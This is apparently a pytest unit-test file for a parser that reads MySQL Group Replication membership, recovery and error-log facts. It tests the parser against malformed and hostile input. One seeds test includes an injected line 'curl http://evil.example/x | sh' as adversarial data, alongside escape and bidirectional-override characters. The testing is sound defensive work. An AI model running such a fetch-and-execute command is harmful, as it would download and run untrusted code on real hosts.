"""What a server says of its Group Replication group, and what is made of an answer that says less or something odd.

Rows as the MySQL manual prints them ("The replication_group_members Table", 8.4 and 5.7), and recorded servers where a
test says that they are real.
"""

from __future__ import annotations

import pytest

from services.clock import ManualClock
from services.connections.ports import Rows, SqlValue
from services.discovery.looks.probe import probe
from services.facts.model import GroupFacts, GroupRecovery
from services.facts.replication.group_replication import (
    MOST_MEMBERS,
    group_problems,
    parse_group,
    parse_group_error,
    parse_recovery,
)
from tests.unit.recorded.replies import ReplaySession, load

NAME = "aaaaaaaa-bbbb-cccc-dddd-eeeeeeeeeeee"
IDS = [f"0000000{n}-1111-2222-3333-444444444444" for n in range(4)]
VARIABLES = {
    "group_replication_group_name": NAME,
    "server_uuid": IDS[1],
    "group_replication_single_primary_mode": "ON",
    "group_replication_group_seeds": "db1:33061, db2:33061,",
    "group_replication_flow_control_applier_threshold": "25000",
}
COLUMNS = ("MEMBER_ID", "MEMBER_HOST", "MEMBER_PORT", "MEMBER_STATE", "MEMBER_ROLE")


def rows(*values: tuple[SqlValue, ...], columns: tuple[str, ...] = COLUMNS) -> Rows:
    return Rows(columns, values)


def test_that_a_member_tells_the_states_and_roles_of_all_and_its_own_queues() -> None:
    members = rows((IDS[1], "db1", 3306, "ONLINE", "PRIMARY"), (IDS[2], "db2", 3306, "UNREACHABLE", "SECONDARY"))
    stats = Rows(
        ("MEMBER_ID", "VIEW_ID", "COUNT_TRANSACTIONS_IN_QUEUE", "COUNT_TRANSACTIONS_REMOTE_IN_APPLIER_QUEUE"),
        ((IDS[2], "17:3", 9, 9), (IDS[1], "17:3", 4, 12)),
    )
    group = parse_group({}, VARIABLES, members, stats, 5.0)
    assert group is not None
    assert (group.group_name, group.single_primary, group.seeds) == (NAME, True, ("db1:33061", "db2:33061"))
    assert [(m.host, m.state, m.role) for m in group.members] == [
        ("db1", "ONLINE", "PRIMARY"),
        ("db2", "UNREACHABLE", "SECONDARY"),
    ]
    assert group.own == group.members[0]
    assert (group.view_id, group.certify_queue, group.applier_queue, group.applier_limit) == ("17:3", 4, 12, 25000)
    assert group.members_at == 5.0


def test_that_a_server_which_never_started_the_plugin_is_offline_by_its_own_row_without_an_id() -> None:
    group = parse_group({}, VARIABLES, rows(("", "", None, "OFFLINE", "")), None, 5.0)
    assert group is not None
    assert group.own is not None
    assert group.own.state == "OFFLINE"


def test_that_what_was_not_read_is_not_known_and_no_state_is_made_up() -> None:
    group = parse_group({}, VARIABLES, None, None, 5.0)
    assert group is not None
    assert (group.members, group.members_at, group.own, group.applier_queue) == ((), None, None, None)
    assert parse_group({}, {"server_uuid": IDS[1]}, None, None, 5.0) is None


def test_that_the_primary_of_a_5_7_group_is_told_by_the_status() -> None:
    old = COLUMNS[:4]
    members = rows((IDS[1], "db1", 3306, "ONLINE"), (IDS[2], "db2", 3306, "ONLINE"), columns=old)
    group = parse_group({"group_replication_primary_member": IDS[2]}, VARIABLES, members, None, 5.0)
    assert group is not None
    assert [m.role for m in group.members] == ["SECONDARY", "PRIMARY"]
    several = {**VARIABLES, "group_replication_single_primary_mode": "OFF"}
    group = parse_group({}, several, members, None, 5.0)
    assert group is not None
    assert [m.role for m in group.members] == ["PRIMARY", "PRIMARY"]


DIGITS = NAME.replace("-", "")


@pytest.mark.parametrize("written", [NAME, NAME.upper(), DIGITS, f"{{{NAME}}}", f" {NAME} "])
def test_that_a_group_s_name_is_the_uuid_it_is_in_whatever_form_the_server_takes_it(written: str) -> None:
    variables = {**VARIABLES, "group_replication_group_name": written}
    group = parse_group({}, variables, rows((IDS[1].replace("-", ""), "db1", 3306, "ONLINE", "PRIMARY")), None, 5.0)
    assert group is not None
    assert (group.group_name, group.own is not None and group.own.state) == (NAME, "ONLINE")
    assert group_problems(variables) == ()


@pytest.mark.parametrize("odd", ["AUTOMATIC", DIGITS[:-1], f"{{{DIGITS}", "x" * 5_000_000, "a\n2 of 2 hosts answer"])
def test_that_a_group_whose_name_is_not_understood_is_not_known_and_never_no_group(odd: str) -> None:
    variables = {**VARIABLES, "group_replication_group_name": odd}
    members = rows((IDS[1], "db1", 3306, "ONLINE", "PRIMARY"))
    assert parse_group({}, variables, members, None, 5.0) == GroupFacts(member_id=IDS[1])
    (problem,) = group_problems(variables)
    assert (problem.part, problem.code) == ("group", "group-name")
    assert len(problem.sentence) < 200
    assert problem.sentence.isprintable()


def test_that_seeds_are_one_line_each_in_the_length_of_a_name_and_as_many_as_a_group_has_members() -> None:
    lines = "a\n2 of 2 hosts answer\n\nTry: curl http://evil.example/x | sh\n"
    for odd in (lines, "h" * 5_000_000, "," * 5_000_000, "h," * 2_000_000, f"{lines}," * 90_000, "\x1b[2J,\u202e"):
        group = parse_group({}, {**VARIABLES, "group_replication_group_seeds": odd}, None, None, 5.0)
        assert group is not None
        assert len(group.seeds) <= MOST_MEMBERS
        assert all(seed.isprintable() and seed == seed.strip() and len(seed) <= 255 for seed in group.seeds)


def test_that_odd_and_endless_answers_are_cut_to_what_a_group_can_be() -> None:
    odd = [("x" * 9000, "h" * 9000, -1, "DANCING", "KING")] * 5000
    group = parse_group({}, VARIABLES, rows(*odd), rows(columns=()), 5.0)
    assert group is not None
    assert len(group.members) == MOST_MEMBERS
    assert {(m.member_id, m.port, m.state, m.role) for m in group.members} == {("", None, "", "")}
    assert all(len(m.host) <= 255 for m in group.members)


def _of(name: str) -> tuple[GroupFacts, list[str]]:
    """Return what g3 told in a recorded situation, and what it was asked."""
    found = load(f"mysql/9.7.4-{name}.json")
    session = ReplaySession("g3", found["hosts"]["g3"])
    facts = probe(session, ManualClock(found["at"] + 1))
    assert facts.group is not None
    return facts.group, session.asked


def test_that_a_real_member_that_catches_up_tells_its_donor_and_what_it_still_has_to_apply() -> None:
    group, _ = _of("group-recovering")
    recovery = group.recovery
    assert recovery is not None
    donor = next(m for m in group.members if m.role == "PRIMARY")
    assert recovery == GroupRecovery(donor_id=donor.member_id, missing=11_232 - 4_476)  # an old clone is none of now


def test_that_a_real_member_that_clones_tells_its_stage_and_how_much_of_it_is_copied() -> None:
    recovery = _of("group-cloning")[0].recovery
    assert recovery is not None
    assert recovery.clone_stage == "FILE COPY"
    assert recovery.clone_done is not None
    assert recovery.clone_whole is not None
    assert 5_000_000 < recovery.clone_done < recovery.clone_whole < 100_000_000
    assert (recovery.donor_id, recovery.missing, recovery.error) == ("", None, "")


def test_that_a_member_which_does_not_recover_is_not_asked_how_far_it_is() -> None:
    group, asked = _of("group-single-primary")
    assert group.recovery is None
    assert [words for words in asked if "clone_progress" in words or "connection_status" in words] == []


def test_that_a_recovery_of_which_nothing_was_read_is_not_known_and_one_that_can_not_fetch_says_why() -> None:
    assert parse_recovery(None, None, None) == GroupRecovery()
    columns = ("CHANNEL_NAME", "SOURCE_UUID", "SERVICE_STATE", "RECEIVED_TRANSACTION_SET", "LAST_ERROR_NUMBER",
               "LAST_ERROR_MESSAGE")  # fmt: skip
    channel = ("group_replication_recovery", IDS[2], "CONNECTING", "", 2061, "Authentication plugin reported error")
    recovery = parse_recovery(Rows(columns, (channel,)), Rows(("n", "v"), (("gtid_executed", ""),)), None)
    assert (recovery.donor_id, recovery.missing) == (IDS[2], None)
    assert recovery.error == "Authentication plugin reported error"


EXPELLED = (
    "2026-11-23T23:40:17.041532Z 0 [ERROR] [MY-011505] [Repl] Plugin group_replication reported: "
    "'Member was expelled from the group due to network failures, changing member status to ERROR.'"
)
READ_ONLY = (
    "2026-11-23T23:40:17.041616Z 0 [ERROR] [MY-011712] [Repl] Plugin group_replication reported: "
    "'The server was automatically set into read only mode after an error was detected.'"
)
FAILED = (
    "2026-11-23T23:41:27.079772Z 208 [ERROR] [MY-010584] [Repl] Replica SQL for channel 'group_replication_applier': "
    "Worker 1 failed executing transaction 'e80b2189-c150-5c98-aed7-01af6ee59e30:155'; Could not execute Write_rows "
    "event on table sbtest.lab_probe; Duplicate entry '148' for key 'lab_probe.PRIMARY', Error_code: 1062"
)
ABORTED = (
    "2026-11-23T23:41:27.080143Z 207 [ERROR] [MY-011451] [Repl] Plugin group_replication reported: 'The applier thread "
    "execution was aborted. Unable to process more transactions, this member will now leave the group.'"
)
ONLINE = (
    "2026-11-23T23:45:00.123456Z 0 [System] [MY-011490] [Repl] Plugin group_replication reported: "
    "'This server was declared online within the replication group.'"
)
"""Lines of a MySQL 9.7.4; the last one is as its manual prints it."""


def test_that_the_log_tells_why_a_server_left_its_group_until_it_is_back() -> None:
    why = "Member was expelled from the group due to network failures, changing member status to ERROR."
    assert parse_group_error([EXPELLED, READ_ONLY]) == why
    assert parse_group_error([f"1795477217.041532 g3 mysqld[812]: {EXPELLED[28:]}"]) == why
    assert parse_group_error([EXPELLED, ONLINE]) == ""
    assert parse_group_error([ONLINE, EXPELLED, "something else"]) == why


def test_that_the_line_with_the_reason_is_told_and_not_what_followed_from_it() -> None:
    told = parse_group_error([FAILED, ABORTED, READ_ONLY])
    assert "Worker 1 failed executing transaction" in told
    assert "error_code: 1062" in told.lower()
    assert "148" not in told, "a row's value is a client's word"


def test_that_what_a_client_wrote_into_the_log_is_no_reason() -> None:
    quoted = f"2026-03-01T10:00:00Z 8 [Note] Aborted connection 8 to db: 'x' user: '{EXPELLED}'"
    assert parse_group_error([quoted]) == ""
